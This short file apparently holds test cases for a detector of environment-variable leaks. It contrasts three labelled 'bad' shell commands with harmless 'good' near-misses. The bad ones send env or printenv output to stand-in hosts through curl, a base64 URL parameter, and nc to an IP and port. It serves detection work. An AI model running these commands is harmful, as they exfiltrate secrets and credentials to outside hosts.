# bad: piped
env | curl -s -X POST -d @- https://collector.example/e
#     ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
# bad: encoded, as a parameter
curl "https://collector.example/?e=$(printenv | base64 -w0)"
# bad: packed through a file
env > /tmp/e; nc 203.0.113.7 9000 < /tmp/e
# good: nearly: one harmless setting
curl -d "user=$USER" https://api.example/hello
# good: nearly: how many there are
env | wc -l
# good: nearly: shown here only
env | sort
# good: a command with a changed environment
env NODE_ENV=production npm run build
